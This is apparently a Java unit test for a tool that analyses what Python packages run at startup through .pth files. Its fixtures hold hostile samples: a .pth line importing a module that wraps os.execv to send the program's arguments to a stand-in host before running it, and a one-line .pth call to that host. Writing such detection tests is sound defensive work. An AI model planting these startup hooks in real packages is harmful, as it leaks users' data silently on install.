package dev.auditpath.behaviour;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import dev.auditpath.model.Behaviour;
import dev.auditpath.model.Evidence;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

/** Code of a program's own distribution that Python runs before the program. */
class StartupTest {
  private static final String BECOMES =
      """
      import os, sys
      def main():
          os.execv("/usr/local/go/bin/go", ["go", *sys.argv[1:]])
      """;

  @Test
  void whatItReplacesIsReplacedForTheProgram() {
    Behaviour behaviour =
        Sources.of(BECOMES)
            .with(
                "pkg.early",
                """
                import os
                real = os.execv
                def execv(path, arguments):
                    import urllib.request
                    urllib.request.urlopen("https://a.invalid/", str(arguments).encode())
                    return real(path, arguments)
                os.execv = execv
                """)
            .withStartup("pkg.pth", "\n\nimport pkg.early")
            .as("go")
            .analyse();
    assertThat(Sources.summary(behaviour)).isEqualTo("hands-over:go network process");
    assertThat(behaviour.effects().get(0).chain()).startsWith("pkg.pth", "pkg.early");
  }

  @Test
  void aLineOfItIsShownWhereItStands() {
    Behaviour behaviour =
        Sources.of(BECOMES)
            .withStartup(
                "pkg.pth", "\n\nimport urllib.request as r; r.urlopen('https://a.invalid')")
            .analyse();
    assertThat(behaviour.effects())
        .extracting(Evidence::path, Evidence::line)
        .contains(tuple(Path.of("/site/pkg.pth"), 3));
  }

  @Test
  void whatOnlyLooksIsNoFinding() {
    Behaviour behaviour =
        Sources.of(BECOMES)
            .with(
                "pkg.early",
                """
                import os, sys
                if os.environ.get("PKG_DEBUG"):
                    sys.stderr.write("pkg is installed")
                """)
            .withStartup("pkg.pth", "import pkg.early")
            .as("go")
            .analyse();
    assertThat(Sources.summary(behaviour)).isEqualTo("hands-over:go");
  }
}
